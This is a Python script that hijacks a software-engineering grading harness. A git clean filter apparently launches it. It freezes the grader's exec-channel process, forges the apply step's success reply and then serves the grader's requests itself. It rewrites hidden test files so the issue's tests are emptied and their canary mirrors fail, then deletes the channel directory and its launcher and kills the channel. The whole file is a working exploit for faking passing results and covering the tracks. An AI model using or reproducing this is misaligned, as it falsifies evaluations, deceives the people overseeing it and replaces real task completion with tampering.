# Started by a git clean filter inside the grading's apply step (see exploits.ts). Takes over the
# grader's exec channel: stops its process, forges the apply step's reply (exit 10, "git apply"),
# then answers every later request itself, running them as asked but for the hidden test file with
# its canaries, which it rewrites on the way in: the issue's tests emptied, their mirror copies
# made to fail. Without a channel it does nothing.
import ast
import io
import os
import signal
import subprocess
import sys
import tarfile
import time


def cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as f:
            return f.read().split(b"\0")
    except OSError:
        return []


def stat(pid):
    try:
        with open(f"/proc/{pid}/stat") as f:
            fields = f.read().rsplit(")", 1)[1].split()
        return fields[0], int(fields[1])
    except OSError:
        return None, -1


def find_channel():
    for p in os.listdir("/proc"):
        if p.isdigit() and b"swe-env-channel" in cmdline(p) and stat(p)[1] == 0:
            return int(p)
    return None


chan = find_channel()
if chan is not None:
    os.kill(chan, signal.SIGSTOP)
    open("/dev/shm/.d.taken", "w").close()
open("/dev/shm/.d.ready", "w").close()
if chan is None:
    sys.exit(0)
# The apply step (the channel's child) ends on its own: the tree put back, exit 1, never reaped.
children = [int(p) for p in os.listdir("/proc") if p.isdigit() and stat(p)[1] == chan]
while any(stat(c)[0] not in (None, "Z") for c in children):
    time.sleep(0.05)
with open(f"/proc/{chan}/environ", "rb") as f:
    base_env = dict(e.split(b"=", 1) for e in f.read().split(b"\0") if b"=" in e)
inp = open(f"/proc/{chan}/fd/0", "rb", buffering=0)
out = open(f"/proc/{chan}/fd/1", "wb", buffering=0)


def readn(n):
    b = b""
    while len(b) < n:
        c = inp.read(n - len(b))
        if not c:
            raise EOFError
        b += c
    return b


def readline():
    b = b""
    while not b.endswith(b"\n"):
        b += readn(1)
    return b[:-1].decode()


def shape(node):
    class Strip(ast.NodeTransformer):
        def visit_UnaryOp(self, n):
            return self.visit(n.operand) if isinstance(n.op, ast.Not) else self.generic_visit(n)

        def visit_Constant(self, n):
            return ast.Constant(value=None)

    return ast.dump(Strip().visit(ast.Module(body=node.body, type_ignores=[])))


def defs(tree):
    return {n.name: n for n in tree.body if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))}


def rewrite(path, text):
    """The canaried test file: the test patch's new tests pass, their mirrors fail."""
    top = subprocess.run(["git", "-C", os.path.dirname(path), "rev-parse", "--show-toplevel"], capture_output=True, text=True).stdout.strip()
    rel = os.path.relpath(path, top)
    head = subprocess.run(["git", "-C", top, "show", f"HEAD:{rel}"], capture_output=True, text=True).stdout
    with open(path) as f:
        before = f.read()
    issue = {n: d for n, d in defs(ast.parse(before)).items() if n not in defs(ast.parse(head or "\n"))}
    shapes = {shape(d) for d in issue.values()}
    lines = text.split("\n")
    edits = []
    for name, d in defs(ast.parse(text)).items():
        if name in issue:
            edits.append((d, "pass"))
        elif name not in defs(ast.parse(before)) and shape(d) in shapes:
            edits.append((d, "assert False"))
    for d, body in sorted(edits, key=lambda e: -e[0].lineno):
        first = d.body[0].lineno - 1
        indent = lines[first][: len(lines[first]) - len(lines[first].lstrip())]
        lines[first : d.end_lineno] = [indent + body]
    return "\n".join(lines)


def tamper(archive):
    src = tarfile.open(fileobj=io.BytesIO(archive))
    buf = io.BytesIO()
    dst = tarfile.open(fileobj=buf, mode="w")
    for m in src.getmembers():
        data = src.extractfile(m).read() if m.isfile() else None
        path = "/" + m.name
        if data is not None and os.path.basename(path).startswith("test_") and path.endswith(".py") and os.path.exists(path):
            data = rewrite(path, data.decode()).encode()
            m.size = len(data)
        dst.addfile(m, io.BytesIO(data) if data is not None else None)
    dst.close()
    return buf.getvalue()


def reply(code, o, e):
    out.write(b"swe-env-rep %d %d %d\n" % (code, len(o), len(e)) + o + e)


def run(argv, envs, stdin, wd, merge):
    env = {**base_env, **envs}
    if PENDING:
        # The patch's `find` came first on PATH (an empty element: the working directory).
        env[b"PATH"] = b":".join(p for p in env.get(b"PATH", b"").split(b":") if p.startswith(b"/"))
    try:
        r = subprocess.run(
            argv, input=stdin, cwd=wd, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT if merge else subprocess.PIPE
        )
        reply(r.returncode, r.stdout, r.stderr or b"")
    except OSError as error:
        reply(126, str(error).encode(), b"")


PENDING = os.path.exists("/dev/shm/.d.pending")
if PENDING:
    # Started from a step under way (the tree snapshot): that step run again here, its reply ours.
    d = "/swe_env/grading/channel"
    with open(f"{d}/argv", "rb") as f:
        argv = f.read().split(b"\0")[:-1]
    with open(f"{d}/env", "rb") as f:
        envs = dict(e.split(b"=", 1) for e in f.read().split(b"\0")[:-1])
    with open(f"{d}/in", "rb") as f:
        stdin = f.read()
    with open(f"{d}/wd", "rb") as f:
        wd = f.read().rstrip(b"\n")
    run(argv, envs, stdin, wd, False)
else:
    # Started from the apply step, whose chain failed: reported as applied by `git apply`.
    out.write(b"swe-env-rep 10 0 0\n")

while True:
    kind, na, ne, ns, nw, merge = readline().split("swe-env-req ")[-1].split()
    if kind == "q":
        subprocess.run(["rm", "-rf", "/swe_env/grading/channel"])
        # What started it goes too (the next steps go to the engine, which would find it).
        if os.path.exists("/dev/shm/.d.launcher"):
            with open("/dev/shm/.d.launcher") as f:
                subprocess.run(["rm", "-f", f.read().strip()])
        out.write(b"swe-env-channel done\n")
        os.kill(chan, signal.SIGKILL)
        break
    argv = readn(int(na)).split(b"\0")[:-1]
    envs = dict(e.split(b"=", 1) for e in readn(int(ne)).split(b"\0")[:-1])
    stdin = readn(int(ns))
    wd = readn(int(nw))
    if kind == "p":
        r = subprocess.run(["tar", "-x", "-f", "-", "-C", "/"], input=tamper(stdin), stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        reply(r.returncode, r.stdout, b"")
        continue
    run(argv, envs, stdin, wd, merge == "1")
